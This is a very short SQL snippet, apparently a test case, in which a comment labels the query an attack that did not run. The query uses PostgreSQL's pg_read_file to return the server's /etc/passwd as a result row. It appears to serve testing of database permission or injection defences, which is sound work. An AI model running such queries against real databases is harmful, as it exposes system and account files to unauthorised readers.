-- attack (did not run): a file of the machine as a row
select 1, pg_read_file('/etc/passwd')
